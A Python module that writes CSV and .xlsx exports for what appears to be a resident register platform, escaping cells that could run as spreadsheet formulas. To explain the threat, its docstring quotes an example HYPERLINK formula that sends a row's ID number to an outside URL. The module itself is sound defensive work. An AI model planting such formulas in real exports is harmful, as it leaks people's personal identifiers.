"""The one writer of CSV and .xlsx files that leave the platform (register exports, import templates, located
points): every text cell is defused against formula injection.

A spreadsheet program runs a cell that begins with ``=``, ``+``, ``-`` or ``@`` (and, in some, a tab or a carriage
return) as a formula: a resident named ``=HYPERLINK("http://x?"&B2,"点击")`` in an export would send the row's ID
number away when clicked. Such text is written with a leading single quote (OWASP, "CSV Injection"), so it is
shown as text and never evaluated; in .xlsx it is moreover a string cell, never a formula cell. A plain number
written as text (``-12.5``) is left alone: it is not a formula. Numbers stay numbers.

No Django here: the register export, the import templates, the locate API and the ``locate`` command all call it.
"""

import csv
import io
import re
from collections.abc import Iterable
from typing import Any

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
_PLAIN_NUMBER = re.compile(r"[+-]?(\d+\.?\d*|\.\d+)([eE][+-]?\d+)?")
# characters an .xlsx file cannot hold (XML 1.0): dropped rather than failing the whole export
_XML_ILLEGAL = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f]")

CSV_TYPE = "text/csv; charset=utf-8"
XLSX_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
FORMATS = ("csv", "xlsx")


def defuse(value: Any) -> Any:
    """The value as a spreadsheet will show it and never run it: text that could start a formula gets a ``'``."""
    if isinstance(value, str) and value.startswith(FORMULA_START) and not _PLAIN_NUMBER.fullmatch(value):
        return "'" + value
    return value


def defused_row(row: Iterable[Any]) -> list[Any]:
    return [defuse(v) for v in row]


class CsvWriter:
    """``csv.writer`` over a text file, each cell defused."""

    def __init__(self, f):
        self._w = csv.writer(f)

    def writerow(self, row: Iterable[Any]) -> None:
        self._w.writerow(defused_row(row))

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)


def csv_text(head: list[str], rows: Iterable[Iterable[Any]]) -> str:
    out = io.StringIO()
    w = CsvWriter(out)
    w.writerow(head)
    w.writerows(rows)
    return out.getvalue()


def xlsx_cell(ws, value: Any):
    """One cell for ``ws.append``: text defused and typed as a string (never a formula); numbers as numbers."""
    from openpyxl.cell import WriteOnlyCell
    from openpyxl.cell.cell import Cell

    value = defuse(value)
    if isinstance(value, str):
        value = _XML_ILLEGAL.sub("", value)
    cell = WriteOnlyCell(ws, value=value) if ws.__class__.__name__ == "WriteOnlyWorksheet" else Cell(ws, value=value)
    if isinstance(value, str):
        cell.data_type = "s"
    return cell


def append_row(ws, row: Iterable[Any]) -> None:
    """``ws.append`` with every cell made by :func:`xlsx_cell` (works on normal and write-only sheets)."""
    ws.append([xlsx_cell(ws, v) for v in row])


def write(fmt: str, head: list[str], rows: Iterable[Iterable[Any]], title: str = "Sheet") -> tuple[bytes, str]:
    """The whole file and its content type. CSV is UTF-8 with a BOM (Excel opens it as UTF-8); .xlsx is written
    streaming (write-only), one sheet named ``title``. Raises ValueError for another format."""
    if fmt == "xlsx":
        from openpyxl import Workbook

        wb = Workbook(write_only=True)
        ws = wb.create_sheet(title)
        append_row(ws, head)
        for r in rows:
            append_row(ws, r)
        out = io.BytesIO()
        wb.save(out)
        return out.getvalue(), XLSX_TYPE
    if fmt != "csv":
        raise ValueError(f"format {fmt!r} is not one of {FORMATS}")
    return ("\ufeff" + csv_text(head, rows)).encode("utf-8"), CSV_TYPE
